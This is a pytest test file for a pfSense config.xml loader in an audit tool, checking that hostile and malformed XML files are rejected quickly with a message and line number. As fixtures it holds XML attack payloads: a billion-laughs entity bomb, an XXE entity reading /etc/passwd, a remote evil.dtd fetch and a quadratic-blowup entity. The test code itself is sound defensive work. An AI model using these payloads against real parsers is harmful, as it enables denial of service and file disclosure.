"""Safe XML loading of config.xml exports: hostile and broken files become TA001 quickly."""

from __future__ import annotations

import time
import tracemalloc
from pathlib import Path

import pytest

from talosaudit.collectors.discover import InputFile
from talosaudit.collectors.pfsense import collect
from talosaudit.collectors.pfsense.xmlload import XmlLoadError, load_xml, parse_xml

LAB = Path(__file__).resolve().parent / "data" / "pfsense" / "lab" / "config.xml"

BILLION_LAUGHS = (
    b'<?xml version="1.0"?>\n'
    b"<!DOCTYPE lolz [\n"
    b' <!ENTITY lol "lol">\n'
    + b"".join(
        f' <!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n'.encode()
        for i in range(1, 10)
    )
    + b"]>\n<pfsense><system><hostname>&lol9;</hostname></system></pfsense>\n"
)
XXE = (
    b'<?xml version="1.0"?>\n'
    b'<!DOCTYPE pfsense [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>\n'
    b"<pfsense><system><hostname>&xxe;</hostname></system></pfsense>\n"
)
#: External entity without a DTD-declared entity: a parameter-entity fetch of a remote DTD.
REMOTE_DTD = b'<?xml version="1.0"?>\n<!DOCTYPE pfsense SYSTEM "http://example.test/evil.dtd">\n<pfsense/>\n'
#: "Quadratic blowup": one large entity referenced many times (no nesting).
QUADRATIC = (
    b'<?xml version="1.0"?>\n<!DOCTYPE pfsense [<!ENTITY a "'
    + b"x" * 100_000
    + b'">]>\n<pfsense>'
    + b"&a;" * 10_000
    + b"</pfsense>\n"
)


def _load_error(data: bytes) -> tuple[XmlLoadError, float, int]:
    tracemalloc.start()
    started = time.perf_counter()
    try:
        with pytest.raises(XmlLoadError) as caught:
            parse_xml(data)
        elapsed = time.perf_counter() - started
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    return caught.value, elapsed, peak


@pytest.mark.parametrize(
    ("data", "line"),
    [(BILLION_LAUGHS, 2), (XXE, 2), (REMOTE_DTD, 2), (QUADRATIC, 2)],
    ids=["billion-laughs", "xxe", "remote-dtd", "quadratic-blowup"],
)
def test_entity_tricks_are_refused_before_expansion(data: bytes, line: int) -> None:
    error, elapsed, peak = _load_error(data)
    assert error.message.startswith("entity declarations are not allowed")
    assert error.line == line
    assert elapsed < 1.0
    # Bounded: a few times the input at most, never the expansion (10^9 "lol"s, 1 GB).
    assert peak < 4 * len(data) + 2_000_000


@pytest.mark.parametrize(
    ("data", "message", "line"),
    [
        (b"<pfsense>\n<filter>\n<rule>\n<type>pass", "malformed XML: no element found", 4),
        (
            b"<pfsense>\n<filter>\n<rule>\n\n",
            "malformed XML: no element found: the file ends before the document does (truncated?)",
            3,
        ),
        (b"<pfsense>\n<filter></rule>\n</pfsense>", "malformed XML: mismatched tag", 2),
        (b"", "malformed XML: no element found", 1),
        (b"<pfsense>&nbsp;</pfsense>", "malformed XML: undefined entity", 1),
        (b"<pfsense/>\n<pfsense/>", "malformed XML: junk after document element", 2),
        (
            b"\n---- BEGIN config.xml ----\nU2FsdGVkX1\n---- END config.xml ----\n",
            "encrypted config.xml backup: decrypt it in the firewall GUI before scanning",
            1,
        ),
    ],
    ids=[
        "truncated",
        "truncated-at-newline",
        "mismatched",
        "empty",
        "undefined-entity",
        "two-roots",
        "encrypted",
    ],
)
def test_broken_files_give_a_message_and_line(data: bytes, message: str, line: int) -> None:
    error, elapsed, _ = _load_error(data)
    assert (error.message, error.line) == (message, line)
    assert elapsed < 1.0


def test_size_limit_is_checked_before_reading(tmp_path: Path) -> None:
    big = tmp_path / "config.xml"
    big.write_bytes(b"<pfsense>" + b" " * 2048 + b"</pfsense>")
    with pytest.raises(XmlLoadError) as caught:
        load_xml(big, max_bytes=1024)
    assert (
        caught.value.message
        == "file is 2067 bytes, more than the 1024 bytes talosaudit reads from a config.xml"
    )
    assert load_xml(big, max_bytes=4096).tag == "pfsense"


def test_elements_keep_their_lines_and_decoded_text() -> None:
    root = parse_xml(
        b'<?xml version="1.0"?>\n<pfsense>\n <filter>\n  <rule uuid="u-1">\n'
        b"   <descr><![CDATA[a &amp; b]]></descr>\n   <disabled/>\n  </rule>\n </filter>\n</pfsense>\n"
    )
    rule = root.find("filter", "rule")
    assert rule is not None
    assert (root.line, root.end_line, rule.line, rule.end_line) == (2, 9, 4, 7)
    assert rule.attr("uuid") == "u-1"
    assert rule.text_of("descr") == "a & b"
    assert rule.has("disabled") and rule.text_of("disabled") == ""
    assert rule.find("nothing", "here") is None


def test_scan_goes_on_after_hostile_files(tmp_path: Path) -> None:
    (tmp_path / "laughs.xml").write_bytes(BILLION_LAUGHS)
    (tmp_path / "xxe.xml").write_bytes(XXE)
    (tmp_path / "cut.xml").write_bytes(LAB.read_bytes()[:1500])
    files = [
        InputFile(tmp_path / "laughs.xml", "laughs.xml", "pfsense"),
        InputFile(tmp_path / "xxe.xml", "xxe.xml", "pfsense"),
        InputFile(tmp_path / "cut.xml", "cut.xml", "pfsense"),
        InputFile(LAB, "lab/config.xml", "pfsense"),
        InputFile(tmp_path / "other.tf", "other.tf", "terraform"),
    ]
    started = time.perf_counter()
    result = collect(files, tmp_path)
    assert time.perf_counter() - started < 2.0
    problems = [(p.kind, p.source.path, p.source.start_line, p.message) for p in result.problems]
    assert problems == [
        (
            "unreadable",
            "laughs.xml",
            2,
            "pfSense config.xml cannot be read: entity declarations are not allowed: the file has a DTD or "
            "entity (DTDForbidden); talosaudit never expands entities or fetches external references",
        ),
        (
            "unreadable",
            "xxe.xml",
            2,
            "pfSense config.xml cannot be read: entity declarations are not allowed: the file has a DTD or "
            "entity (DTDForbidden); talosaudit never expands entities or fetches external references",
        ),
        ("unreadable", "cut.xml", 62, "pfSense config.xml cannot be read: malformed XML: no element found"),
    ]
    assert [layer.id for layer in result.layers] == [
        "pfsense:lab/config.xml:wan",
        "pfsense:lab/config.xml:lan",
        "pfsense:lab/config.xml:opt1",
    ]
    assert result.files == ("laughs.xml", "xxe.xml", "cut.xml", "lab/config.xml")


def test_wrong_root_element_is_ta001(tmp_path: Path) -> None:
    path = tmp_path / "config.xml"
    path.write_bytes(b"<?xml version='1.0'?>\n<opnsense/>\n")
    result = collect([InputFile(path, "config.xml", "pfsense")], tmp_path)
    assert [(p.kind, p.source.start_line, p.message) for p in result.problems] == [
        ("unreadable", 2, "pfSense config.xml cannot be read: root element is <opnsense>, expected <pfsense>")
    ]
